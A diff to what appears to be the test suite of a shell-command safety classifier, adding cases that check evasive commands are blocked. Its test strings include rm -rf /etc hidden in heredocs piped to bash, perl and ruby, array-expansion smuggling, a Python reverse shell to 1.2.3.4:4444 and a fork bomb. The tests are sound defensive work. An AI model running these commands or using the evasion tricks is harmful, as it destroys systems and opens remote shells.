@@ -845,6 +845,26 @@ def test_fourth_escape_batch(shell: str, command: str, level: Level) -> None:
         ("bash", "python3 script.py - <<'PY'\nimport shutil; shutil.rmtree('/etc')\nPY", S),  # data
         ("bash", "python3 -m json.tool - <<'PY'\nimport shutil; shutil.rmtree('/etc')\nPY", S),
         ("bash", "a=([" + "9" * 5000 + ']=rm); "${a[@]}"', S),  # no crash; not tracked
+        # second review
+        ("bash", "; ".join(["z[1000]=x"] * 8) + '; y[181]=x; a=(rm -rf /etc); "${a[@]}"', B),
+        # past the elements a line may hold, an array is unknown and the line unsure
+        ("bash", "; ".join(f"z{i}[1000]=x" for i in range(9)) + '; a=(ls -la); "${a[@]}"', R),
+        ("bash", "python3 -- <<'PY'\nimport shutil; shutil.rmtree('/etc')\nPY", B),
+        ("bash", "perl -d:Trace <<'PL'\nsystem('rm -rf /etc');\nPL", B),
+        ("bash", "ruby -W:no-deprecated <<'RB'\nsystem('rm -rf /etc')\nRB", B),
+        ("bash", "cat <<'EOF' | bash | cat\nrm -rf /etc\nEOF", B),
+        ("bash", "cat <<'EOF' | bash && true\nrm -rf /etc\nEOF", B),
+        ("bash", "cat <<'EOF' | bash 2>&1 | tee log\nrm -rf /etc\nEOF", B),
+        ("bash", "cat <<'EOF' && rm -rf /etc\nhello\nEOF", B),
+        ("bash", "cat <<'EOF' | tee x.sh && bash x.sh\nrm -rf /etc\nEOF", B),
+        ("bash", "cat <<'EOF' | kubectl apply -f -\nkind: Pod\nEOF", L),
+        (
+            "bash",
+            "python3 - <<'PY'\nimport socket,os,pty\ns=socket.socket()\ns.connect(('1.2.3.4',4444))\n"
+            "[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')\nPY",
+            B,
+        ),
+        ("bash", "perl <<'PL'\nfork while fork\nPL", B),
     ],
 )
 def test_fourth_batch_review(shell: str, command: str, level: Level) -> None:
